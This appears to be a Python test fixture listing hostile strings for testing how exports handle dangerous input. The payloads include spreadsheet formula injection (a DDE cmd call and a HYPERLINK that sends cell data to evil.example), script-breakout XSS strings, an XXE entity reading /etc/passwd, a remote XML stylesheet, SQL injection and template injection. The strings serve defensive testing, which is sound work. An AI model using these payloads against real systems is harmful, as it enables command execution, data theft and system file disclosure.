"""What the formats for programs could stumble over: formulas, the ends of scripts, characters that XML forbids."""

from itertools import count

from tests.hostile.case import Case, Table
from tests.hostile.fields import everywhere

TABLE = Table("exports")

TEXTS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"here\")",
    "＝1+1",
    "'=1+1",
    "a,b;c|d",
    "a\"b\"\"c",
    "=cmd|' /C calc'!A0",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "]]><script>alert(1)</script>",
    "*/alert(1)/*",
    "\\\"});alert(1);//",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "${alert(1)} `alert(1)`",
    "'+alert(1)+'",
    "__proto__",
    "constructor",
    "&amp;lt;b&amp;gt; &#x3c;b&#x3e; &nbsp;",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "<?xml-stylesheet href=\"//evil.example/x.xsl\"?>",
    "<a xmlns=\"x\">&</a>",
    "'); drop table statement; --",
    "\"; attach database 'x.db' as x; --",
    "a* NEAR(b) \"c",
    "{{ 7 * 7 }}{% for x in range(10) %}{# #}",
    "{0.__class__} %s %(a)s $x",
    "\U0001f600\U00010400\U0002f800 \ue000 \ufdd0",
    "%00%0a%0d%1b[31m",
    "\u200f\u200e\u061c AB",
    "Line with a tab\tinside",
)  # fmt: skip

ESCAPES = {
    "a line separator": ("\\u2028", "control-character 7 summary"),
    "a vertical tab": ("\\v", "control-character 7 summary"),
    "a form feed": ("\\f", "control-character 7 summary"),
    "a noncharacter": ("\\uFFFE", "control-character 7 summary"),
    "a unit separator": ("\\x1F", "control-character 7 summary"),
    "DEL": ("\\x7F", "control-character 7 summary"),
    "a next line": ("\\N", "control-character 7 summary"),
}
"""What XML 1.0 (section 2.2) forbids or discourages, brought in by an escape of YAML."""

CASES: list[Case] = [
    *(everywhere(TABLE, repr(text), number, text) for number, text in zip(count(1), TEXTS, strict=False)),
    *(TABLE.front(f"{name} as an escape", f'summary: "a{spelt}b"', end) for name, (spelt, end) in ESCAPES.items()),
]
